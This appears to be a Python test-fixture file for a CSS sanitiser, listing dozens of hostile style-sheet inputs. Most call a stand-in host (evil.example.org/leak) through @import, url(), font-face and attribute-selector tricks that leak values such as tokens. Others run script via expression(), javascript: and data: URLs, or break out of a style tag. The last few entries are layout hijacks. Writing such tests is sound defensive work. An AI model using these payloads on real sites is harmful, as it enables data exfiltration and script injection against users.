"""Style sheets that would like to load, leak, run or hide: after OWASP's cheat sheets, the tests of
sanitisers of CSS, and what is known of exfiltration by selectors and fonts. All ask a bad host.
"""

from __future__ import annotations

AWAY = "https://evil.example.org/leak"
RAN = "top.ran=1"

ATTACKS = (
    f"@import '{AWAY}';",
    f"@import url({AWAY});",
    f"@\\69mport url({AWAY});",
    f"@IMPORT/**/ '{AWAY}' screen;",
    f"@charset 'utf-8'; @import '{AWAY}';",
    f"p{{}}@import '{AWAY}';",
    f"body {{ background: url({AWAY}) }}",
    f"body {{ background: url('{AWAY}') }}",
    f'body {{ background: URL( "{AWAY}" ) }}',
    f"body {{ background: u\\72l({AWAY}) }}",
    "body { background: url(//evil.example.org/leak) }",
    "body { background: url(leak) }",
    "body { background: url(#leak) }",
    f"body {{ background: image-set('{AWAY}' 1x) }}",
    f"body {{ background: -webkit-image-set(url({AWAY}) 1x) }}",
    f"body {{ background: image('{AWAY}') }}",
    f"body {{ background: cross-fade(url({AWAY}), red) }}",
    f"body {{ background: src('{AWAY}') }}",
    f":root {{ --a: url({AWAY}) }} body {{ background: var(--a) }}",
    f":root {{ --a: '{AWAY}' }} body {{ background: image-set(var(--a) 1x) }}",
    f"@property --a {{ syntax: '<url>'; inherits: true; initial-value: url({AWAY}) }}",
    f"@font-face {{ font-family: x; src: url({AWAY}) }} body {{ font-family: x }}",
    f"@font-face {{ font-family: x; src: local('x'), url({AWAY}); unicode-range: U+41 }}",
    f".chat-name[title^=a] {{ background: url({AWAY}?a) }}",
    f".chat-line:has([href*=token]) {{ list-style-image: url({AWAY}) }}",
    f"a {{ cursor: url({AWAY}), auto }}",
    f"p::before {{ content: url({AWAY}) }}",
    f"p {{ border-image: url({AWAY}) 30; mask: url({AWAY}#m); filter: url({AWAY}#f) }}",
    f"p {{ clip-path: url({AWAY}#c); shape-outside: url({AWAY}); offset-path: url({AWAY}#o) }}",
    f"@media (min-width: 1px) {{ @supports (color: red) {{ p {{ background: url({AWAY}) }} }} }}",
    f"p {{ color: red; & b {{ background: url({AWAY}) }} }}",
    f"@keyframes x {{ from {{ background: url({AWAY}) }} }} body {{ animation: x 1s }}",
    f"@layer x {{ body {{ background: url({AWAY}) }} }}",
    f"@supports (background: url({AWAY})) {{ p {{ color: red }} }}",
    f"@namespace x url({AWAY});",
    f"@document url({AWAY}) {{ p {{ color: red }} }}",
    f"p {{ behavior: url({AWAY}) }}",
    f"p {{ -moz-binding: url({AWAY}#x) }}",
    f"p {{ width: expression({RAN}) }}",
    f"p {{ background: url(javascript:{RAN}) }}",
    f'p {{ background: url("data:text/html,<script>{RAN}</script>") }}',
    f"p {{ background: url(\"data:image/svg+xml,<svg onload='{RAN}'/>\") }}",
    "p { background: element(#stage); color: attr(data-x url); }",
    f"</style><script>{RAN}</script><style>",
    f"p {{ color: red }} --> <!-- p {{ background: url({AWAY}) }}",
    f"p {{ background: url({AWAY}",
    "p { color: red; } }}} p { background: url(leak) }",
)

TRICKS = (
    f"body {{ background: url/**/({AWAY}) }}",
    "body { position: fixed; inset: -99999px; transform: scale(999) }",
    ".chat { position: fixed; inset: -500vw; z-index: 2147483647; width: 9999px }",
    "#stage { overflow: visible; contain: none; translate: 200vw 200vh }",
    "html { width: 100000px; height: 100000px; overflow: scroll }",
)
"""What may be written: it stays within the page, and asks nobody."""
